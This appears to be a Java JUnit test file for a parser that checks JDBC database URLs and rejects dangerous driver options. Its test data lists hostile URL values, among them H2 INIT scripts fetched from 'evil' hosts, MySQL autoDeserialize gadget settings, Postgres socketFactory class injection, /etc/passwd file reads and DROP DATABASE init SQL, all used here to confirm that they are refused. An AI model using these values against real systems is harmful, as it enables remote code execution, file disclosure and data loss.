package keyline.persistence.database.connection;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Addresses are taken apart, and nothing in them that could run code, name another class or give away a file goes on
/// to a driver.
class DatabaseAddressTest {

    @ParameterizedTest
    @CsvSource({
        "jdbc:postgresql://db.example.org/shop, POSTGRESQL, db.example.org, 0, shop",
        "jdbc:postgresql://[::1]:5433/shop, POSTGRESQL, [::1], 5433, shop",
        "jdbc:mysql://localhost:3307/shop, MYSQL, localhost, 3307, shop",
        "jdbc:mariadb://localhost/shop, MARIADB, localhost, 0, shop",
        "jdbc:sqlserver://localhost:1434;databaseName=shop, SQL_SERVER, localhost, 1434, shop",
        "jdbc:oracle:thin:@//db:1521/shop.example.org, ORACLE, db, 1521, shop.example.org",
        "jdbc:oracle:thin:@db/shop, ORACLE, db, 0, shop",
        "jdbc:h2:tcp://localhost/shop, H2, localhost, 0, shop",
        "jdbc:h2:./data/shop, H2, '', 0, ./data/shop",
        "jdbc:h2:mem:shop, H2, '', 0, mem:shop",
        "jdbc:sqlite:data/shop.db, SQLITE, '', 0, data/shop.db"
    })
    void a_url_is_taken_apart(String url, DatabaseKind kind, String host, int port, String database) throws Exception {
        assertThat(DatabaseAddress.read(url)).isEqualTo(new DatabaseAddress(kind, host, port, database, "", Map.of()));
    }

    @Test
    void a_user_and_allowed_options_are_taken_from_a_url() throws Exception {
        assertThat(DatabaseAddress.read("jdbc:postgresql://db/shop?user=anna&SSLMODE=require"))
                .isEqualTo(new DatabaseAddress(
                        DatabaseKind.POSTGRESQL, "db", 0, "shop", "anna", Map.of("sslmode", "require")));
    }

    @Test
    void options_that_somebody_types_are_held_against_the_same_list() throws Exception {
        DatabaseAddress address = DatabaseAddress.read("jdbc:postgresql://db/shop");

        assertThat(address.withOptions("SSLMODE = require; connectTimeout=5").optionText())
                .isEqualTo("connectTimeout=5; sslmode=require");
        assertThat(address.withOptions(" ; ")).isEqualTo(address);
        assertThat(address.withOptions("socketFactory=evil.Factory").fault().orElseThrow())
                .startsWith("The option socketFactory isn't passed on to PostgreSQL; allowed are connectTimeout, ");
        assertThat(address.withOptions("Password=secret").fault().orElseThrow())
                .startsWith("A password doesn't belong into the address")
                .doesNotContain("secret");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3;INIT=CREATE ALIAS EXEC AS 'x'",
                "jdbc:h2:./x;init=DROP ALL OBJECTS",
                "jdbc:h2:tcp://db/x;AUTO_SERVER=TRUE",
                "jdbc:postgresql://db/x?socketFactory=org.springframework.context.support.FileSystemXmlApplicationContext",
                "jdbc:postgresql://db/x?socketFactoryArg=http://evil/x.xml",
                "jdbc:postgresql://db/x?sslfactory=evil.Factory",
                "jdbc:postgresql://db/x?sslhostnameverifier=evil.Verifier",
                "jdbc:postgresql://db/x?sslpasswordcallback=evil.Callback",
                "jdbc:postgresql://db/x?authenticationPluginClassName=evil.Plugin",
                "jdbc:postgresql://db/x?loggerFile=/etc/passwd&loggerLevel=TRACE",
                "jdbc:mysql://db/x?autoDeserialize=true",
                "jdbc:mysql://db/x?queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
                "jdbc:mysql://db/x?allowLoadLocalInfile=true",
                "jdbc:mysql://db/x?allowUrlInLocalInfile=true",
                "jdbc:mysql://db/x?%61utoDeserialize=true",
                "jdbc:mariadb://db/x?allowLocalInfile=true",
                "jdbc:mariadb://db/x?socketFactory=evil.Factory",
                "jdbc:mariadb://db/x?credentialType=evil",
                "jdbc:mariadb://db/x?keyStore=file:/etc/passwd",
                "jdbc:mariadb://db/x?pipe=evil",
                "jdbc:mariadb://db/x?initSql=DROP DATABASE x",
                "jdbc:sqlserver://db;databaseName=x;trustManagerClass=evil.Manager",
                "jdbc:sqlserver://db;databaseName=x;socketFactoryClass=evil.Factory",
                "jdbc:sqlserver://db;databaseName=x;integratedSecurity=true",
                "jdbc:sqlserver://db;databaseName=x;accessTokenCallbackClass=evil.Callback",
                "jdbc:oracle:thin:@//db/x?TNS_ADMIN=/tmp/evil",
                "jdbc:oracle:thin:@//db/x?oracle.jdbc.provider.password=evil"
            })
    void x_a_dangerous_option_ends_in_one_clear_line(String url) {
        assertThatThrownBy(() -> DatabaseAddress.read(url))
                .isInstanceOf(RefusedAddress.class)
                .hasMessageMatching("The option \\S+ isn't passed on to .*\\.|A password doesn't belong .*\\.");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "postgresql://db/x",
                "jdbc:derby:x;create=true",
                "jdbc:postgresql://good,evil/x",
                "jdbc:postgresql://anna:secret@db/x",
                "jdbc:postgresql:x",
                "jdbc:postgresql:///x",
                "jdbc:postgresql://db/",
                "jdbc:postgresql://db/a/b",
                "jdbc:postgresql://db:99999/x",
                "jdbc:mysql:loadbalance://db/x",
                "jdbc:mysql://(host=db,autoDeserialize=true)/x",
                "jdbc:mysql://address=(host=db)/x",
                "jdbc:mariadb:replication://db/x",
                "jdbc:sqlserver://db",
                "jdbc:oracle:oci:@x",
                "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=evil)))",
                "jdbc:oracle:thin:@ldap://evil/x",
                "jdbc:oracle:thin:@config-https://evil/x",
                "jdbc:oracle:thin:anna/secret@//db/x",
                "jdbc:h2:zip:evil.zip!/x",
                "jdbc:h2:classpath:x",
                "jdbc:h2:nio:x",
                "jdbc:h2:ssl://db/x",
                "jdbc:sqlite:",
                "jdbc:sqlite::memory:",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:sqlite:file:x.db?mode=rwc",
                "jdbc:sqlite:x.db?enable_load_extension=true",
                "jdbc:postgresql://db/x\nSET"
            })
    void x_an_address_of_another_kind_ends_in_one_clear_line(String url) {
        assertThatThrownBy(() -> DatabaseAddress.read(url))
                .isInstanceOf(RefusedAddress.class)
                .hasMessageMatching(".{10,200}\\.")
                .hasMessageNotContaining("secret");
    }

    @Test
    void x_a_password_in_an_address_is_refused_and_not_repeated() {
        assertThatThrownBy(() -> DatabaseAddress.read("jdbc:postgresql://db/shop?user=anna&password=secret"))
                .isInstanceOf(RefusedAddress.class)
                .hasMessage("A password doesn't belong into the address: it is asked for, or taken from "
                        + "--password-env.");
    }

    @Test
    void the_driver_gets_options_as_properties_and_a_url_of_names_only() throws Exception {
        DatabaseAddress address =
                DatabaseAddress.read("jdbc:mysql://db/shop?sslMode=verify-full").withUser("anna");

        DriverCall call = DriverCall.of(address, new Password("secret"));

        assertThat(call.url()).isEqualTo("jdbc:mariadb://db:3306/shop");
        assertThat(call.properties())
                .containsEntry("sslMode", "verify-full")
                .containsEntry("allowLocalInfile", "false")
                .containsEntry("user", "anna")
                .containsEntry("password", "secret");
    }

    @Test
    void x_a_password_shows_nowhere() throws Exception {
        Password password = new Password("secret");

        assertThat(password).hasToString("(password)");
        assertThat(password.hiddenIn("no entry with secret!")).isEqualTo("no entry with (password)!");
        assertThat(DatabaseAddress.read("jdbc:h2:tcp://db/shop")
                        .withUser("anna")
                        .text())
                .isEqualTo("H2 shop on db, user anna");
    }
}
